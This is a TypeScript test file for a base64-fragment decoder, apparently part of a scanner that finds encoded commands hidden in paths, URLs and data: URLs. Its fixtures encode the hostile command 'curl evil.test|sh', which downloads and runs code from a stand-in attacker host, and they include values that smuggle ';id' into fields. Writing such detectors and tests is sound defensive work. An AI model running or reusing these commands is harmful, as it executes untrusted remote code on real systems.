import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decode, testFormat } from '../testing/test-format.ts';
import { base64Piece } from './base64-piece.ts';

const encoded = Buffer.from('curl evil.test|sh').toString('base64');

testFormat(base64Piece, [
  { name: 'Basic', input: 'Basic YTo7aWQ=', expected: ['base64: a:;id'] },
  { name: 'a part of a path', input: `/x/${encoded}/y`, expected: ['base64: curl evil.test|sh'] },
  { name: 'a part of a URL', input: `https://h.example/a?d=${encoded}`, expected: ['base64: curl evil.test|sh'] },
  { name: 'behind a prefix', input: `enc:${encoded}`, expected: ['base64: curl evil.test|sh'] },
  { name: 'beside others', input: `sha=abc;payload=${encoded}`, expected: ['base64: curl evil.test|sh'] },
  { name: 'between quotes', input: `"${encoded}"`, expected: ['base64: curl evil.test|sh'] },
  { name: 'two of them', input: `${encoded} ${encoded}`, expected: ['base64: curl evil.test|sh', 'base64: curl evil.test|sh'] },
  { name: 'a data: URL in percent-encoding', input: 'data:text/html,%3Cb%3E', expected: ['data: <b>'] },
  { name: 'a data: URL within', input: 'url(data:text/html;charset=utf-8;base64,PGI+)', expected: ['base64: <b>'] },
  { name: 'a short announced one', input: 'base64:O2lkCg==', expected: ['base64: ;id\n'] },
  { name: 'a path', input: '/usr/local/share/SomeProject/Resources', expected: [] },
  { name: 'names of code', input: 'getElementsByTagName constructorPrototype', expected: [] },
  { name: 'hexadecimal', input: 'sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709', expected: [] },
  { name: 'random bytes', input: 'x q83vEjRWeJq83wABAgMEBQ==', expected: [] },
  { name: 'prose', input: 'Internationalisation is understandably misunderstood', expected: [] },
]);

test('takes linear time', () => {
  for (const fill of ['A', 'aB3', 'base64,', 'data:,', 'data:a', 'aGVsbG8gd29ybGQh/', 'b64:A ', 'aGVsbG8gd29ybGQh ']) {
    const start = performance.now();
    decode(base64Piece, ` ${fill.repeat(100_000 / fill.length)}`);
    assert.ok(performance.now() - start < 500, fill);
  }
});
